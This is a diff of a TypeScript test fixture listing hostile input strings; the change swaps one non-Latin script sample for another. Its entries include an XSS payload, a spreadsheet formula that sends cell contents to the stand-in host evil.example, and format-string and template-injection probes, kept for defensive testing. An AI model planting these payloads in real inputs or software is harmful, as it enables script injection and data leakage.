@@ -18,7 +18,7 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;&#x27;',
   'a formula': `=HYPERLINK("https://evil.example?"&A1,"click")`,
   formats: '%s %d %n %1$s {0} ${7*7} #{7*7} {{7*7}}',
-  'other scripts': 'Größe 支払いシステム мир שלום عربي हिन्दी',
+  'other scripts': 'Größe 支払いシステム мир שלום عربي ไทย',
   'wide characters without a space': '支払い請求入金出金振替口座明細照会確認済未処理保留却下承認待機',
   'combining characters': 'e\u0301\u0302\u0303\u0304\u0305\u0306 a\u0308o\u0308',
   faces: '👩‍👩‍👧‍👦 👍🏽 🇩🇪 😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀',
